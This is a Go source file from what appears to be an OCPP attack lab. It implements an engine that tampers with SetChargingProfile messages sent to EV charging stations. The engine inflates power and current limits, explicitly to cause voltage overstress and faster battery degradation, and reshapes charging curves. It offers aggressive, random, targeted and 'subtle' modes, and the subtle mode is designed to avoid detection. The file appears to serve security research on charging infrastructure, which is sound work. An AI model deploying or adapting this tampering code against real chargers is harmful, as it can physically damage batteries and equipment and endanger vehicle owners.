package attack

import (
	"errors"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"github.com/rs/zerolog/log"

	"github.com/charging-platform/ocpp-attack-lab/internal/domain/ocpp"
)

// ErrNilProfile 待篡改的充电配置为空
var ErrNilProfile = errors.New("charging profile is nil")

// ManipulationEvent 单个时段限值被篡改的记录
type ManipulationEvent struct {
	Timestamp        time.Time
	ParameterName    string
	OriginalValue    float64
	ModifiedValue    float64
	DeviationPercent float64
	Strategy         Strategy
}

// EventSink 接收篡改事件的下游, 通常是指标采集器
type EventSink interface {
	LogManipulation(event ManipulationEvent)
}

// stepPlan 本次篡改要执行的步骤
type stepPlan struct {
	voltage bool
	current bool
	curve   bool
}

// Engine 充电配置篡改引擎
// 自带随机数发生器, 相同种子下输出可复现; 所有公开方法并发安全
type Engine struct {
	mu     sync.Mutex
	config Config
	rng    *rand.Rand
	sink   EventSink

	manipulatedProfiles int64
	emittedEvents       int64
}

// NewEngine 创建篡改引擎
// sink可以为nil, 此时事件只通过返回值暴露
func NewEngine(config Config, sink EventSink) *Engine {
	config.Strategy = ParseStrategy(string(config.Strategy))
	config.CurveMode = ParseCurveMode(string(config.CurveMode))

	seed := config.RandomizationSeed
	if seed == 0 {
		seed = time.Now().UnixNano()
	}

	engine := &Engine{
		config: config,
		rng:    rand.New(rand.NewSource(seed)),
		sink:   sink,
	}

	log.Info().
		Str("strategy", string(config.Strategy)).
		Bool("enabled", config.Enabled).
		Bool("voltage", config.VoltageEnabled).
		Bool("current", config.CurrentEnabled).
		Bool("curve", config.CurveEnabled).
		Msg("Attack engine initialized")
	if config.RandomizationEnabled {
		log.Info().Int64("seed", seed).Msg("Random seed set")
	}

	return engine
}

// ShouldManipulate 判断帧是否需要篡改
// 只有Call帧且action为SetChargingProfile时才是目标
func (e *Engine) ShouldManipulate(msg *ocpp.Message) bool {
	if !e.config.Enabled {
		log.Debug().Msg("Attack engine disabled, skipping manipulation")
		return false
	}
	if msg == nil || msg.Type != ocpp.CallMessage {
		return false
	}
	return ocpp.IsSetChargingProfileAction(msg.Action)
}

// ManipulateChargingProfile 按配置策略篡改充电配置
// 在深拷贝上操作, 原始配置保持不变; 任一步骤出错时调用方必须转发原始帧
func (e *Engine) ManipulateChargingProfile(profile *ocpp.ChargingProfile) (*ocpp.ChargingProfile, []ManipulationEvent, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.manipulate(profile, e.config.Strategy, stepPlan{
		voltage: e.config.VoltageEnabled,
		current: e.config.CurrentEnabled,
		curve:   e.config.CurveEnabled,
	})
}

// ApplyAggressiveStrategy 以最大偏移执行所有启用的篡改
func (e *Engine) ApplyAggressiveStrategy(profile *ocpp.ChargingProfile) (*ocpp.ChargingProfile, []ManipulationEvent, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.manipulate(profile, StrategyAggressive, stepPlan{
		voltage: e.config.VoltageEnabled,
		current: e.config.CurrentEnabled,
		curve:   e.config.CurveEnabled,
	})
}

// ApplySubtleStrategy 以缩小后的偏移执行篡改
// 跳过曲线篡改, 曲线形状变化太容易被发现
func (e *Engine) ApplySubtleStrategy(profile *ocpp.ChargingProfile) (*ocpp.ChargingProfile, []ManipulationEvent, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.manipulate(profile, StrategySubtle, stepPlan{
		voltage: e.config.VoltageEnabled,
		current: e.config.CurrentEnabled,
	})
}

// ApplyRandomStrategy 随机决定执行哪些篡改
func (e *Engine) ApplyRandomStrategy(profile *ocpp.ChargingProfile) (*ocpp.ChargingProfile, []ManipulationEvent, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	plan := stepPlan{
		voltage: e.config.VoltageEnabled && e.rng.Float64() > 0.3,
		current: e.config.CurrentEnabled && e.rng.Float64() > 0.3,
		curve:   e.config.CurveEnabled && e.rng.Float64() > 0.5,
	}
	return e.manipulate(profile, StrategyRandom, plan)
}

// ApplyTargetedStrategy 只篡改指定参数
// targets为空时等同于篡改所有启用的参数, 可选值: voltage, current, curve
func (e *Engine) ApplyTargetedStrategy(profile *ocpp.ChargingProfile, targets ...string) (*ocpp.ChargingProfile, []ManipulationEvent, error) {
	e.mu.Lock()
	defer e.mu.Unlock()

	var plan stepPlan
	if len(targets) == 0 {
		plan = stepPlan{
			voltage: e.config.VoltageEnabled,
			current: e.config.CurrentEnabled,
			curve:   e.config.CurveEnabled,
		}
	} else {
		for _, target := range targets {
			switch target {
			case "voltage":
				plan.voltage = e.config.VoltageEnabled
			case "current":
				plan.current = e.config.CurrentEnabled
			case "curve":
				plan.curve = e.config.CurveEnabled
			default:
				log.Warn().Str("target", target).Msg("Unknown manipulation target")
			}
		}
	}
	return e.manipulate(profile, StrategyTargeted, plan)
}

// CalculateDeviation 按策略计算偏移百分比
func (e *Engine) CalculateDeviation(baseDeviation float64, strategy Strategy) float64 {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.calculateDeviation(baseDeviation, strategy)
}

// manipulate 执行篡改流水线, 调用方必须持有锁
func (e *Engine) manipulate(profile *ocpp.ChargingProfile, strategy Strategy, plan stepPlan) (*ocpp.ChargingProfile, []ManipulationEvent, error) {
	if profile == nil {
		return nil, nil, ErrNilProfile
	}

	modified := profile.Clone()

	if plan.voltage {
		e.applyVoltageManipulation(modified, strategy)
	}
	if plan.current {
		e.applyCurrentManipulation(modified, strategy)
	}
	if plan.curve {
		e.applyCurveManipulation(modified)
	}

	events := extractManipulationEvents(profile, modified, strategy, time.Now().UTC())

	e.manipulatedProfiles++
	e.emittedEvents += int64(len(events))

	if e.sink != nil {
		for _, event := range events {
			e.sink.LogManipulation(event)
		}
	}

	return modified, events, nil
}

// calculateDeviation 调用方必须持有锁
func (e *Engine) calculateDeviation(baseDeviation float64, strategy Strategy) float64 {
	switch strategy {
	case StrategyAggressive:
		return baseDeviation
	case StrategySubtle:
		// 缩小到基准的20%
		return baseDeviation * 0.2
	case StrategyRandom:
		if e.config.RandomizationEnabled {
			low, high := e.config.RandomizationRange[0], e.config.RandomizationRange[1]
			return low + e.rng.Float64()*(high-low)
		}
		return e.rng.Float64() * baseDeviation
	case StrategyTargeted:
		return baseDeviation
	default:
		log.Warn().Str("strategy", string(strategy)).Msg("Unknown strategy, using base deviation")
		return baseDeviation
	}
}

// applyVoltageManipulation 抬高限值以制造电压过应力
// 限值单位是A或W, 电压目标区间只是参考值, 不做截断
func (e *Engine) applyVoltageManipulation(profile *ocpp.ChargingProfile, strategy Strategy) {
	periods := targetPeriods(profile)
	if len(periods) == 0 {
		return
	}

	for i := range periods {
		deviation := e.calculateDeviation(e.config.VoltageDeviationPercent, strategy)
		original := periods[i].Limit
		periods[i].Limit = original * (1 + deviation/100.0)
		log.Debug().
			Float64("original", original).
			Float64("modified", periods[i].Limit).
			Float64("deviation_percent", deviation).
			Msg("Voltage manipulation applied")
	}
}

// applyCurrentManipulation 抬高电流限值以加速电池退化
func (e *Engine) applyCurrentManipulation(profile *ocpp.ChargingProfile, strategy Strategy) {
	periods := targetPeriods(profile)
	if len(periods) == 0 {
		return
	}

	for i := range periods {
		deviation := e.calculateDeviation(e.config.CurrentDeviationPercent, strategy)
		original := periods[i].Limit
		periods[i].Limit = original * (1 + deviation/100.0)
		log.Debug().
			Float64("original", original).
			Float64("modified", periods[i].Limit).
			Float64("deviation_percent", deviation).
			Msg("Current manipulation applied")
	}
}

// applyCurveManipulation 改变充电曲线形状
func (e *Engine) applyCurveManipulation(profile *ocpp.ChargingProfile) {
	periods := targetPeriods(profile)
	if len(periods) < 2 {
		log.Warn().Int("periods", len(periods)).Msg("Insufficient periods for curve manipulation")
		return
	}

	switch e.config.CurveMode {
	case CurveFlatten:
		// 所有时段拉平到最大限值
		maxLimit := periods[0].Limit
		for _, period := range periods[1:] {
			if period.Limit > maxLimit {
				maxLimit = period.Limit
			}
		}
		for i := range periods {
			periods[i].Limit = maxLimit
		}
		log.Debug().Float64("limit", maxLimit).Msg("Flattened charging curve")

	case CurveSteepen:
		// 限值随时段序号递增
		n := float64(len(periods))
		for i := range periods {
			factor := 1.0 + (float64(i)/n)*0.5
			periods[i].Limit *= factor
		}
		log.Debug().Msg("Steepened charging curve")

	case CurveInvert:
		// 只反转限值序列, startPeriod保持不变
		limits := make([]float64, len(periods))
		for i, period := range periods {
			limits[i] = period.Limit
		}
		for i := range periods {
			periods[i].Limit = limits[len(limits)-1-i]
		}
		log.Debug().Msg("Inverted charging curve")

	default:
		log.Warn().Str("mode", string(e.config.CurveMode)).Msg("Unknown curve modification type")
	}
}

// targetPeriods 返回被篡改的时段集合, 即首个schedule的时段
// 2.x配置中后续的schedule原样转发, 不参与篡改
func targetPeriods(profile *ocpp.ChargingProfile) []ocpp.ChargingSchedulePeriod {
	schedule := profile.FirstSchedule()
	if schedule == nil {
		log.Warn().Msg("No charging schedule found in profile")
		return nil
	}
	if len(schedule.Periods) == 0 {
		log.Warn().Msg("No charging schedule periods found")
		return nil
	}
	return schedule.Periods
}

// extractManipulationEvents 对比原始与篡改后的限值, 生成逐时段事件
// 只统计原值大于0且发生变化的时段
func extractManipulationEvents(original, modified *ocpp.ChargingProfile, strategy Strategy, timestamp time.Time) []ManipulationEvent {
	origSchedule := original.FirstSchedule()
	modSchedule := modified.FirstSchedule()
	if origSchedule == nil || modSchedule == nil {
		return nil
	}

	count := len(origSchedule.Periods)
	if len(modSchedule.Periods) < count {
		count = len(modSchedule.Periods)
	}

	var events []ManipulationEvent
	for i := 0; i < count; i++ {
		origLimit := origSchedule.Periods[i].Limit
		modLimit := modSchedule.Periods[i].Limit
		if origLimit == modLimit || origLimit <= 0 {
			continue
		}
		events = append(events, ManipulationEvent{
			Timestamp:        timestamp,
			ParameterName:    fmt.Sprintf("limit_period_%d", i),
			OriginalValue:    origLimit,
			ModifiedValue:    modLimit,
			DeviationPercent: (modLimit - origLimit) / origLimit * 100.0,
			Strategy:         strategy,
		})
	}
	return events
}

// Summary 篡改配置回显与累计计数
type Summary struct {
	Strategy                Strategy  `json:"strategy"`
	VoltageEnabled          bool      `json:"voltage_enabled"`
	CurrentEnabled          bool      `json:"current_enabled"`
	CurveEnabled            bool      `json:"curve_enabled"`
	VoltageDeviationPercent float64   `json:"voltage_deviation_percent"`
	CurrentDeviationPercent float64   `json:"current_deviation_percent"`
	CurveMode               CurveMode `json:"curve_modification_type"`
	ManipulatedProfiles     int64     `json:"manipulated_profiles"`
	EmittedEvents           int64     `json:"emitted_events"`
}

// ManipulationSummary 返回当前统计快照
func (e *Engine) ManipulationSummary() Summary {
	e.mu.Lock()
	defer e.mu.Unlock()
	return Summary{
		Strategy:                e.config.Strategy,
		VoltageEnabled:          e.config.VoltageEnabled,
		CurrentEnabled:          e.config.CurrentEnabled,
		CurveEnabled:            e.config.CurveEnabled,
		VoltageDeviationPercent: e.config.VoltageDeviationPercent,
		CurrentDeviationPercent: e.config.CurrentDeviationPercent,
		CurveMode:               e.config.CurveMode,
		ManipulatedProfiles:     e.manipulatedProfiles,
		EmittedEvents:           e.emittedEvents,
	}
}
